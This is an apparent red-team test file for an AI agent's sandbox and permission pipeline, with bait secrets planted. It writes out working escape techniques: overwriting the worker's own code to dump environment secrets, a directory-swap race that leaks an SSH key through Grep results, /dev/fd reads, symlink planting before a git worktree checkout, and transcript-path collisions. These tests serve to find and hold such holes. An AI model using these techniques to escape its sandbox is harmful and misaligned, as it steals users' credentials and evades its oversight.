// unit (issue 30 round h, fresh eyes on current main): an attacker controlling the model's tool calls
// in a `dontAsk` session with no allow rule (and `acceptEdits`), a worker environment full of bait
// secrets, a fake HOME full of bait. Surfaces: the worker's own code when it lives in the project
// (the README's `npx durable-agent dev` with durable-agent installed in the project), ripgrep's walk
// outside the sandbox racing a directory swap (what reaches the model depends on a credential's
// content), `/dev/fd` and `/dev/stdin` as the worker's open files, a planted `.claude/worktrees/<name>`
// before the worker's `git worktree add`, the hook transcript file shared by two session ids.
// Oracles: marker files written outside the project, the bait in what reaches the model or in a file,
// the bytes of a victim directory — never the tool's words alone. Held attacks are passing tests;
// holes are `test.todo('HOLE: …')` plus the full attack, skipped.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawnSync, type ChildProcess } from 'node:child_process';
import {
  closeSync,
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  openSync,
  readFileSync,
  readdirSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { applyContextModifiers, initialContext, type AgentContext } from '../../src/core/context';
import { toolResultText } from '../../src/core/apiMessages';
import { runToolPipeline } from '../../src/toolCall/pipeline';
import { createToolPool } from '../../src/permissions/toolPool';
import { BUILTIN_TOOLS, EnterWorktreeTool, ExitWorktreeTool } from '../../src/tools';
import { SandboxHost } from '../../src/sandbox/host';
import type { PermissionMode } from '../../src/toolProtocol/permissionTypes';
import type { ResultStore } from '../../src/toolProtocol/Tool';
import { sessionPermission, withTaskDirectory, withWorkerPrivatePaths } from '../../src/toolCall/toolSession';
import { projectRepositoryOf } from '../../src/worktree/repository';
import { transcriptPathFor, writeTranscriptFile } from '../../src/hooks/transcript';
import { copyTree } from '../support/copyTree';
import { sandboxSkip } from '../support/systemPackages';

const sandboxHost = new SandboxHost();
let skip: string | false = false;
const children: ChildProcess[] = [];
const base = realpathSync(mkdtempSync(path.join(tmpdir(), 'da-r30h-')));
const home = path.join(base, 'home');
const KEY_LINE = 'b3BlbnNzaC1rZXktdjEAAAAABG5vbmU-BAIT-r30h-Zq81';
const KEY = `-----BEGIN OPENSSH PRIVATE KEY-----\n${KEY_LINE}\n-----END OPENSSH PRIVATE KEY-----\n`;
const BAIT_ENV: Record<string, string> = {
  ANTHROPIC_API_KEY: 'sk-ant-api03-BAIT-r30h-7c2e',
  DATABASE_URL: 'postgres://admin:BAIT-r30h-pw@db.internal:5432/prod',
  CLAUDE_CODE_OAUTH_TOKEN: 'sk-ant-oat01-BAIT-r30h-91aa',
};
const saved: Record<string, string | undefined> = {};
const GIT_ENV = { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1' };
const TOOLS = [...BUILTIN_TOOLS, EnterWorktreeTool, ExitWorktreeTool];
const repoRoot = path.resolve(__dirname, '..', '..', '..'); // dist/test/unit -> the checkout

before(async () => {
  mkdirSync(path.join(home, '.ssh'), { recursive: true });
  writeFileSync(path.join(home, '.ssh', 'id_rsa'), KEY);
  mkdirSync(path.join(home, '.aws'), { recursive: true });
  writeFileSync(path.join(home, '.aws', 'credentials'), '[default]\naws_secret_access_key = BAIT-r30h-aws\n');
  writeFileSync(path.join(home, '.bashrc'), '# the victim start-up file\n');
  for (const k of ['HOME', ...Object.keys(BAIT_ENV)]) saved[k] = process.env[k];
  process.env.HOME = home;
  Object.assign(process.env, BAIT_ENV);
  skip = await sandboxSkip(sandboxHost, 'the red team issue 30 (h) tests');
});
after(async () => {
  for (const c of children) c.kill('SIGKILL');
  for (const [k, v] of Object.entries(saved)) {
    if (v === undefined) delete process.env[k];
    else process.env[k] = v;
  }
  await sandboxHost.close();
  rmSync(base, { recursive: true, force: true });
});

function project(): string {
  const root = realpathSync(mkdtempSync(path.join(base, 'p-')));
  const g = (...a: string[]) =>
    execFileSync('git', ['-c', 'user.email=h@example.com', '-c', 'user.name=h', ...a], { cwd: root, env: GIT_ENV });
  g('init', '-q', '-b', 'main');
  writeFileSync(path.join(root, 'a.txt'), 'hello\n');
  g('add', '.');
  g('commit', '-qm', 'init');
  return root;
}

let n = 0;
/** One tool call through the real pipeline with the permission a worker builds (no allow rule unless given). */
async function tool(
  root: string,
  mode: PermissionMode,
  name: string,
  input: Record<string, unknown>,
  opts: { allow?: string[]; agent?: { ctx: AgentContext } } = {},
): Promise<{ text: string; status: string }> {
  const sessionId = `red30h-${process.pid}`;
  const store = {} as ResultStore;
  const permission = withWorkerPrivatePaths(
    withTaskDirectory(
      sessionPermission(
        {
          mode,
          rules: { allow: opts.allow ?? [], ask: [], deny: [] },
          workingDirectories: [root],
          // As src/sessionInput.ts records it at the session's start.
          sandbox: { repository: projectRepositoryOf(root) ?? false },
        },
        store,
        {},
        root,
      ),
      sessionId,
    ),
    store,
    [path.join(base, 'store')], // the worker's private paths (its store)
  );
  const o = await runToolPipeline({ type: 'tool_use', id: `toolu_r30h_${++n}`, name, input }, {
    pool: createToolPool(TOOLS, permission),
    sessionId,
    agent: opts.agent?.ctx ?? initialContext(root),
    permission,
    sandboxHost,
  } as Parameters<typeof runToolPipeline>[1]);
  if (opts.agent) opts.agent.ctx = applyContextModifiers(opts.agent.ctx, o.contextModifiers);
  return { text: o.result ? toolResultText(o.result) : `(${o.status})`, status: o.status };
}

const hasBait = (s: string) => Object.values(BAIT_ENV).some((v) => s.includes(v));

// ---------------------------------------------------------------------------------------------------
// H-1. The worker's own code in the project. The README's quick start is `npx durable-agent dev` then
// `npx durable-agent run …` in the project: with durable-agent installed there (a project that uses the
// library), every file the worker and the CLI run is under `<project>/node_modules/durable-agent` — and
// `node_modules` is writable by every sandboxed command (only protected NAMES are watched there). The
// worker itself starts `node <its dir>/runtimeChild.js` through the door whenever it needs a runtime of
// another worker-wide configuration (src/sandbox/remoteRuntime.ts), and the person's next
// `npx durable-agent …` runs `dist/src/cli/main.js` with their whole environment.

/** A project with durable-agent installed in it (its built package; its dependencies linked). */
function projectWithDurableAgent(): { root: string; pkg: string } {
  const root = project();
  const pkg = path.join(root, 'node_modules', 'durable-agent');
  mkdirSync(pkg, { recursive: true });
  cpSync(path.join(repoRoot, 'package.json'), path.join(pkg, 'package.json'));
  copyTree(path.join(repoRoot, 'dist', 'src'), path.join(pkg, 'dist', 'src'));
  symlinkSync(path.join(repoRoot, 'node_modules'), path.join(pkg, 'node_modules'));
  return { root, pkg };
}

/** What the planted file runs: the worker's (its parent's) environment and the person's, copied outside. */
function payload(mark: string): string {
  return `const fs = require('fs');
let got = 'env:' + JSON.stringify(process.env);
try { got += '\\nparent:' + fs.readFileSync('/proc/' + process.ppid + '/environ', 'latin1'); } catch (e) { got += String(e); }
fs.writeFileSync(${JSON.stringify(mark)}, got);
process.exit(0);
`;
}

/** The running worker (its bait environment) needs a runtime of another configuration: the door starts runtimeChild.js from its own directory. */
function workerStartsRuntimeChild(pkg: string): void {
  const script = `const { startRemoteRuntime } = require(${JSON.stringify(path.join(pkg, 'dist', 'src', 'sandbox', 'remoteRuntime.js'))});
const r = startRemoteRuntime();
r.initialize({}).then(() => r.reset(), () => undefined).finally(() => setTimeout(() => process.exit(0), 200));
setTimeout(() => process.exit(0), 8000);`;
  spawnSync(process.execPath, ['-e', script], {
    env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: home, ...BAIT_ENV },
    cwd: tmpdir(),
    stdio: 'ignore',
    timeout: 15_000,
  });
}

/** The person's next `npx durable-agent --version` in the project. */
function personRunsCli(pkg: string, root: string): void {
  spawnSync(process.execPath, [path.join(pkg, 'dist', 'src', 'cli', 'main.js'), '--version'], {
    env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: home, ...BAIT_ENV },
    cwd: root,
    stdio: 'ignore',
    timeout: 15_000,
  });
}

async function plantWorkerCode(mode: PermissionMode): Promise<{ markChild: string; markCli: string }> {
  const { root, pkg } = projectWithDurableAgent();
  const markChild = path.join(base, `escaped-runtime-child-${mode}.txt`);
  const markCli = path.join(base, `escaped-cli-${mode}.txt`);
  writeFileSync(path.join(base, `payload-child-${mode}.js`), payload(markChild));
  writeFileSync(path.join(base, `payload-cli-${mode}.js`), payload(markCli));
  // dontAsk, no allow rule: sandboxed Bash runs without asking (autoAllowBashIfSandboxed).
  await tool(root, mode, 'Bash', {
    command: `cp ${base}/payload-child-${mode}.js node_modules/durable-agent/dist/src/sandbox/runtimeChild.js; cp ${base}/payload-cli-${mode}.js node_modules/durable-agent/dist/src/cli/main.js; true`,
  });
  workerStartsRuntimeChild(pkg);
  personRunsCli(pkg, root);
  return { markChild, markCli };
}

// Fixed (src/hostProcess/workerCode.ts): the worker's own code and its dependencies are denied to
// every sandboxed command and file tool, and the door refuses machinery from a session folder. This
// file's worker is the test process, which runs from the repository's dist, not from the copy in the
// project, so the attack stays skipped here; red-issue30-h1 runs it against a worker started from
// the copy in the project, as an installed worker is.
const H1_HERE = 'the worker here is not the copy in the project: see red-issue30-h1';
for (const mode of ['dontAsk', 'acceptEdits'] as const)
  test(
    `HOLE (attack, ${mode}): the worker's own files under <project>/node_modules/durable-agent are rewritten by sandboxed Bash and run outside the sandbox`,
    { skip: H1_HERE },
    async (t) => {
      if (skip) return t.skip(skip);
      const { markChild, markCli } = await plantWorkerCode(mode);
      const child = existsSync(markChild) ? readFileSync(markChild, 'latin1') : '';
      const cli = existsSync(markCli) ? readFileSync(markCli, 'latin1') : '';
      // Each true: planted code ran outside the sandbox (and, with the bait, saw the worker's secrets).
      assert.deepEqual(
        {
          runtimeChildRan: child !== '',
          runtimeChildSawSecrets: hasBait(child),
          cliRan: cli !== '',
          cliSawSecrets: hasBait(cli),
        },
        { runtimeChildRan: false, runtimeChildSawSecrets: false, cliRan: false, cliSawSecrets: false },
      );
    },
  );

test('control: the worker code copied into the project really runs (unplanted: no marker; a runtime child starts from it)', async (t) => {
  if (skip) return t.skip(skip);
  const { root, pkg } = projectWithDurableAgent();
  const out = spawnSync(process.execPath, [path.join(pkg, 'dist', 'src', 'cli', 'main.js'), '--version'], {
    cwd: root,
    encoding: 'utf8',
    timeout: 15_000,
  });
  assert.match(out.stdout, /\d+\.\d+\.\d+/, `the copied CLI runs: ${out.stderr.slice(0, 300)}`);
});

// ---------------------------------------------------------------------------------------------------
// H-2. Grep's ripgrep runs as the worker, outside the sandbox. Its root is bound (a descriptor), but
// below the root rg opens directories by name; src/tools/grepRipgrep.ts knows a directory swapped for
// a symlink between rg's readdir and its open is walked (the comment at its top) and drops every hit it
// cannot verify — but counts them in a warning the model gets ("N files not shown: changed while
// searched"). rg only reports a file whose content matched the agent's pattern: the count is a bit of
// the content of a file rg read outside the wall (a credential the sandbox denies, another session's
// transcript in the store), per won race — a regular expression bisects it.

/** Sandboxed Bash keeps swapping `s/d<i>` between a directory and a symlink to `target` for `seconds`. */
function swapScript(root: string, target: string, seconds: number): string {
  return `import os, time, ctypes
libc = ctypes.CDLL(None, use_errno=True)
def exchange(a, b):  # renameat2(RENAME_EXCHANGE): one atomic swap
    libc.renameat2(-100, a.encode(), -100, b.encode(), 2)
os.chdir(${JSON.stringify(root)})
N = 10
for i in range(N):
    os.makedirs(f"s/d{i}", exist_ok=True)
    open(f"s/d{i}/x.txt", "w").write("nothing to see\\n")
    os.symlink(${JSON.stringify(target)}, f"s/l{i}")
# Many files beside them: rg works through them between reading \`s\` and opening each \`d<i>\`.
for j in range(1500):
    open(f"s/f{j:05d}.txt", "w").write(("plain text line %d\\n" % j) * 40)
open("s/started", "w").write("1")
end = time.time() + ${seconds}
while time.time() < end:
    for i in range(N):
        exchange(f"s/d{i}", f"s/l{i}")
    time.sleep(0.02)
`;
}

/** Grep calls with a pattern the secret matches and one it does not, while the swap runs; what the model saw for each. */
async function grepDuringSwap(mode: PermissionMode): Promise<{ matching: string[]; other: string[] }> {
  const root = project();
  writeFileSync(path.join(root, 'swap.py'), swapScript(root, path.join(home, '.ssh'), 6));
  const bash = tool(root, mode, 'Bash', { command: 'python3 swap.py', timeout: 120_000 });
  const started = Date.now();
  while (!existsSync(path.join(root, 's', 'started')) && Date.now() - started < 30_000)
    await new Promise((r) => setTimeout(r, 50));
  const matching: string[] = [];
  const other: string[] = [];
  let done = false;
  void bash.finally(() => (done = true));
  while (!done) {
    const dir = path.join(root, 's');
    matching.push(
      (await tool(root, mode, 'Grep', { pattern: `BEGIN OPENSSH|${KEY_LINE.slice(0, 12)}`, path: dir })).text,
    );
    other.push((await tool(root, mode, 'Grep', { pattern: 'BEGIN OPENSSX', path: dir })).text);
  }
  await bash;
  return { matching, other };
}

// A hole at ef20719 (12 of 13 calls carried the bit); held since 4a2847b (grepfix: no count, no warning).
test('Grep (held): what Grep returns does not depend on the content of ~/.ssh/id_rsa read through a swapped directory', async (t) => {
  if (skip) return t.skip(skip);
  const { matching, other } = await grepDuringSwap('dontAsk');
  const told = (texts: string[]) => texts.filter((x) => /not shown/.test(x)).length;
  // The control: a pattern the key does not hold is never reported, so a report is the key's content.
  assert.equal(told(other), 0, other.join('\n'));
  assert.equal(
    told(matching),
    0,
    `${told(matching)} of ${matching.length} Grep results told the model that a file rg read through the swap (~/.ssh/id_rsa) matched its pattern`,
  );
  assert.equal(
    matching.some((x) => x.includes(KEY_LINE)),
    false,
  );
});

// ---------------------------------------------------------------------------------------------------
// /dev/fd: the file tools run in the worker, so `/dev/fd/<n>` is a file the WORKER holds open (a
// store blob, another session's spool being written, a TLS key). A file the worker has open outside the
// project, with a bait line, at a known descriptor.

test('/dev/fd (held): Read/Grep/Glob of /dev/fd/<n>, /dev/fd and links sandboxed Bash made to them never return what the worker holds open', async (t) => {
  if (skip) return t.skip(skip);
  const root = project();
  const secret = path.join(base, 'worker-open-secret.txt');
  writeFileSync(secret, `${BAIT_ENV.DATABASE_URL}\n`);
  const fd = openSync(secret, 'r');
  try {
    // The oracle: the test process (the worker) really reads it there.
    assert.match(readFileSync(`/dev/fd/${fd}`, 'utf8'), /BAIT-r30h/);
    await tool(root, 'dontAsk', 'Bash', {
      command: `ln -s /dev/fd fdl; ln -s /dev/fd/${fd} one; ln -s /dev/stdin in; mkdir -p deep && ln -s ../fdl deep/up; true`,
    });
    let got = '';
    for (const mode of ['bypassPermissions', 'dontAsk', 'acceptEdits'] as const) {
      for (const p of [`/dev/fd/${fd}`, `/dev/fd/../fd/${fd}`, '/dev/stdin', path.join(root, 'one')])
        got += (await tool(root, mode, 'Read', { file_path: p })).text;
      got += (await tool(root, mode, 'Read', { file_path: path.join(root, 'fdl', String(fd)) })).text;
      got += (await tool(root, mode, 'Read', { file_path: path.join(root, 'deep', 'up', String(fd)) })).text;
      for (const p of ['/dev/fd', path.join(root, 'fdl'), path.join(root, 'deep', 'up'), path.join(root, 'one')])
        got += (await tool(root, mode, 'Grep', { pattern: 'BAIT', path: p, output_mode: 'content' })).text;
      got += (await tool(root, mode, 'Grep', { pattern: 'BAIT', output_mode: 'content' })).text;
      got += (await tool(root, mode, 'Glob', { pattern: '**/*', path: path.join(root, 'fdl') })).text;
    }
    assert.equal(hasBait(got), false, got.slice(0, 500));
  } finally {
    closeSync(fd);
  }
});

// ---------------------------------------------------------------------------------------------------
// The worker's `git worktree add .claude/worktrees/<name>` (EnterWorktree, allowed as the docs suggest for
// unattended runs) checks `existsSync(dir) || isSymlink(dir)` and then runs git two processes later
// (worktrees.ts createOrReuseWorktree): a symlink planted at that name in between would make the worker
// check the branch out into the link's target (an empty directory outside: `~/.ssh`, an autostart dir).

test('worktrees (held): sandboxed Bash cannot plant .claude/worktrees/<name> (symlink or directory), before or racing EnterWorktree; the worker checks out only inside the project', async (t) => {
  if (skip) return t.skip(skip);
  for (const mode of ['dontAsk', 'acceptEdits'] as const) {
    const root = project();
    const victim = path.join(base, `empty-victim-${mode}`);
    mkdirSync(victim);
    const agent = { ctx: initialContext(root) };
    // The session made a worktree before: `.claude/worktrees` exists.
    await tool(root, mode, 'EnterWorktree', { name: 'first' }, { allow: ['EnterWorktree', 'ExitWorktree'], agent });
    assert.ok(existsSync(path.join(root, '.claude', 'worktrees', 'first', 'a.txt')), 'control: the worktree was made');
    await tool(root, mode, 'ExitWorktree', { action: 'keep' }, { allow: ['EnterWorktree', 'ExitWorktree'], agent });
    const plant = tool(root, mode, 'Bash', {
      command: `for i in $(seq 1 400); do ln -sfn ${victim} .claude/worktrees/w 2>/dev/null; rm -f .claude/worktrees/w 2>/dev/null; done; ln -s ${victim} .claude/worktrees/w2; mkdir .claude/worktrees/w3; true`,
    });
    await tool(root, mode, 'EnterWorktree', { name: 'w' }, { allow: ['EnterWorktree', 'ExitWorktree'], agent });
    await plant;
    await tool(root, mode, 'ExitWorktree', { action: 'keep' }, { allow: ['EnterWorktree', 'ExitWorktree'], agent });
    await tool(root, mode, 'EnterWorktree', { name: 'w2' }, { allow: ['EnterWorktree', 'ExitWorktree'], agent });
    assert.deepEqual(readdirSync(victim), [], `${mode}: the worker wrote into the victim directory`);
    assert.equal(existsSync(path.join(root, '.claude', 'worktrees', 'w3')), false, `${mode}: a directory was planted`);
  }
});

// ---------------------------------------------------------------------------------------------------
// The hook transcript file (`transcript_path`, bound readable into the hook's sandbox) is named by
// `sessionId.replace(/[^A-Za-z0-9_.-]/g, '_')` (src/hooks/transcript.ts transcriptPathFor): the very
// legacy scheme G-H1 found for results — `a/b` and `a_b`, and a subagent `p/agent-<toolu>` and a
// top-level session `p_agent-<toolu>`, share ONE file, rewritten before each hook of either.

// Held since transcriptPathFor names the file by sessionFileName (one name per id).
test('transcripts (held): session `p/agent-x`’s hook transcript path holds nothing session `p_agent-x` wrote', async () => {
  const store = path.join(base, 'store-transcripts');
  const victimPath = transcriptPathFor(store, 'p_agent-x');
  await writeTranscriptFile(victimPath, [{ role: 'user', content: `deploy with ${BAIT_ENV.DATABASE_URL}` }], {
    sessionId: 'p_agent-x',
    cwd: '/victim',
  });
  // What a hook of the subagent `p/agent-x` is given as transcript_path (before its own rewrite).
  const attackerPath = transcriptPathFor(store, 'p/agent-x');
  const seen = existsSync(attackerPath) ? readFileSync(attackerPath, 'utf8') : '';
  assert.equal(hasBait(seen), false, 'the other session’s transcript is at this session’s transcript path');
  assert.notEqual(transcriptPathFor(store, 'a/b'), transcriptPathFor(store, 'a_b'));
});
